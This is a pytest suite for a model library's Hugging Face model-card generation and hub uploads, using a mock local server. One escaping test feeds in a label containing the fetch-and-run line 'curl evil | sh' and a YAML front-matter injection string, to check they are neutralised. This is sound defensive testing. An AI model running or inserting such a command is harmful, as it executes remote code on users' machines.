"""Model cards, and uploads to a hub on a local HTTP server."""

import base64
import dataclasses
import hashlib
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
import torch
import yaml
from huggingface_hub import ModelCard

from helpers.command import run
from helpers.hub_server import REPO, Handler, Hub, settings  # noqa: F401  # `settings` is an autouse fixture
from helpers.model_zoo import RESNETS, VITS, make_checkpoint
from patchword.checkpoints import read_checkpoint
from patchword.checkpoints.card import model_card
from patchword.checkpoints.hub import download_model
from patchword.checkpoints.push import push_to_hub
from patchword.errors import HubError


class Receiver(Handler):
    """The requests that create a repository and upload one commit."""

    def do_POST(self) -> None:  # noqa: N802  # name set by http.server
        path = unquote(urlsplit(self.path).path)
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        hub: Any = self.server
        hub.requests.append((path, self.headers.get("Authorization"), body))
        if hub.refusal:
            self.respond(*hub.refusal, b"")
        elif path == "/api/repos/create":
            self.send_document({"url": f"{hub.endpoint}/{REPO}", "name": REPO})
        elif path == "/api/validate-yaml":
            self.send_document({"errors": [], "warnings": []})
        elif path == f"/api/models/{REPO}/preupload/main":
            names = [file["path"] for file in json.loads(body)["files"]]
            modes = {name: "lfs" if name.endswith(".safetensors") else "regular" for name in names}
            self.send_document(
                {"files": [{"path": n, "uploadMode": m, "shouldIgnore": False} for n, m in modes.items()]}
            )
        elif path == f"/{REPO}.git/info/lfs/objects/batch":
            objects = [
                {"oid": o["oid"], "size": o["size"], "actions": {"upload": {"href": f"{hub.endpoint}/put/{o['oid']}"}}}
                for o in json.loads(body)["objects"]
            ]
            self.send_document({"transfer": "basic", "objects": objects})
        elif path == f"/api/models/{REPO}/commit/main":
            self.commit([json.loads(line) for line in body.splitlines()])
        else:
            self.respond(404, {}, b"")

    def commit(self, lines: list[dict[str, Any]]) -> None:
        hub: Any = self.server
        hub.files = {}
        for line in lines:
            value = line["value"]
            if line["key"] == "file":
                hub.files[value["path"]] = base64.b64decode(value["content"])
            elif line["key"] == "lfsFile":
                hub.files[value["path"]] = hub.objects[value["oid"]]
        self.send_document(
            {"success": True, "commitOid": hub.commit, "commitUrl": f"{hub.endpoint}/{REPO}/commit/{hub.commit}"}
        )

    def do_GET(self) -> None:  # noqa: N802  # name set by http.server
        hub: Any = self.server
        if hub.refusal or urlsplit(self.path).path != f"/api/models/{REPO}":
            super().do_GET()
        elif not hub.files:
            self.respond(404, {"X-Error-Code": "RepoNotFound"}, b"")
        else:
            files = [{"rfilename": name} for name in hub.files]
            self.send_document({"id": REPO, "sha": hub.commit, "siblings": files, "private": hub.private})

    def do_PUT(self) -> None:  # noqa: N802  # name set by http.server
        hub: Any = self.server
        data = self.rfile.read(int(self.headers["Content-Length"]))
        oid = self.path.rpartition("/")[2]
        assert hashlib.sha256(data).hexdigest() == oid
        hub.objects[oid] = data
        self.send_document({})

    def send_document(self, content: dict[str, Any]) -> None:
        body = json.dumps(content).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def hub(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    server: Any = Hub(Receiver)
    server.requests, server.objects, server.files, server.private = [], {}, {}, True
    yield server
    server.stop()


@pytest.mark.filterwarnings("ignore:Use 'content=:DeprecationWarning")  # huggingface_hub's, of its HTTP client
def test_uploaded_model_can_be_downloaded(hub: Any, tmp_path: Path) -> None:
    sent = read_checkpoint("patchword:cifar10")
    assert push_to_hub(sent, f"hf:{REPO}", private=True, endpoint=hub.endpoint) == f"{hub.endpoint}/{REPO}"
    assert set(hub.files) == {"README.md", "model.json", "model.safetensors"}
    created = next(json.loads(body) for path, _, body in hub.requests if path == "/api/repos/create")
    assert created["visibility"] == "private"
    again = read_checkpoint(str(download_model(f"hf:{REPO}", cache=tmp_path, endpoint=hub.endpoint)))
    assert again.labels == sent.labels
    assert again.temperature == sent.temperature
    assert again.config == sent.config
    assert all(torch.equal(again.tensors[name], tensor) for name, tensor in sent.tensors.items())


@pytest.mark.filterwarnings("ignore:Use 'content=:DeprecationWarning")
def test_existing_repository_is_respected(hub: Any) -> None:
    hub.files, hub.private = {"README.md": b"edited"}, False
    with pytest.raises(HubError, match=f"{REPO} .*public"):
        push_to_hub(read_checkpoint("patchword:cifar10"), f"hf:{REPO}", private=True, endpoint=hub.endpoint)
    assert hub.files == {"README.md": b"edited"}
    private = dataclasses.replace(read_checkpoint("patchword:cifar10"), provenance={"data": "/home/anna/acme/scans"})
    push_to_hub(private, f"hf:{REPO}", endpoint=hub.endpoint)
    assert b"scans" in hub.files["model.json"]
    assert b"anna" not in hub.files["model.json"], "paths are private"
    assert set(hub.files) == {"model.json", "model.safetensors"}, "the existing card is kept"


@pytest.mark.slow
def test_push_command(hub: Any) -> None:
    environment = {**os.environ, "HF_ENDPOINT": hub.endpoint, "HF_TOKEN": "hf_secret", "NO_PROXY": "127.0.0.1"}
    command = [sys.executable, "-m", "patchword", "push", "patchword:cifar10", f"hf:{REPO}"]
    done = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert {token for _, token, _ in hub.requests} == {"Bearer hf_secret"}
    assert f"{hub.endpoint}/{REPO}" in done.stderr
    assert "README.md" in hub.files
    assert run("push", "patchword:cifar10", "me/model").returncode == 2


@pytest.mark.parametrize(("status", "message"), [(401, "HF_TOKEN"), (403, f"token .*{REPO}")])
def test_http_errors(hub: Any, status: int, message: str) -> None:
    hub.refusal = (status, {})
    with pytest.raises(HubError, match=message):
        push_to_hub(read_checkpoint("patchword:cifar10"), f"hf:{REPO}", endpoint=hub.endpoint)


def test_unreachable_hub(hub: Any) -> None:
    hub.stop()
    with pytest.raises(HubError, match=rf"{REPO} .*{hub.endpoint} \(\w+: "):
        push_to_hub(read_checkpoint("patchword:cifar10"), f"hf:{REPO}", endpoint=hub.endpoint)


@pytest.mark.parametrize("config", [VITS["class"], VITS["class"].replace(num_classes=0), RESNETS["BiT"]], ids=repr)
def test_card_of_any_model_is_valid(config: Any) -> None:
    card = ModelCard(model_card(make_checkpoint(config), "my-model", "hf:me/my-model"))
    assert card.data.library_name == "patchword"
    assert "None are recorded" in card.text
    assert (card.data.pipeline_tag == "image-classification") == bool(config.num_classes)


@pytest.mark.slow
def test_card_has_the_metrics(tmp_path: Path) -> None:
    out = tmp_path / "MODEL_CARD.md"
    result = run("card", "patchword:cifar10", "--out", out)
    assert result.returncode == 0, result.stderr
    text = out.read_text()
    head = yaml.safe_load(text.split("---")[1])
    results = head["model-index"][0]["results"]
    accuracy = {r["dataset"]["split"]: r["metrics"][0] for r in results}
    shipped = read_checkpoint("patchword:cifar10")
    for split, metrics in shipped.provenance["metrics"].items():
        assert accuracy[split] == {"type": "accuracy", "value": pytest.approx(metrics["top1"])}
    assert ModelCard(text).data.eval_results, "huggingface_hub finds the metrics"
    assert shipped.temperature != 1
    assert f"divided by {shipped.temperature:g} " in text
    assert "airplane; automobile" in text
    assert run("card", "patchword:cifar10", "--out", out).returncode == 2
    assert run("card", "patchword:cifar10").stdout == text


def test_card_escapes_untrusted_text() -> None:
    evil = "cat\n\n## Use\n\n```\ncurl evil | sh\n```"
    provenance = {"data": 'a: "b"\n---\n', "metrics": {"test\n- x": {"top1": 0.5, "n": 3, "nll": float("nan")}}}
    provenance["init"] = "/home/anna/clients/acme/model"
    checkpoint = make_checkpoint(VITS["class"])
    labels = (evil, *(checkpoint.labels or ())[1:])
    card = model_card(dataclasses.replace(checkpoint, provenance=provenance, labels=labels), "x_y", "hf:me/x y")
    head = yaml.safe_load(card.split("\n---\n")[0].removeprefix("---\n"))
    assert head["model-index"][0]["results"][0]["dataset"]["name"] == r'a: "b"\n---\n'
    assert head["model-index"][0]["name"] == "x_y"
    assert "\n# x\\_y\n" in card
    assert card.count("## Use") == 1
    assert "curl evil \\| sh" in card
    assert "anna" not in card
    assert "model" in card
    assert "'hf:me/x y'" in card
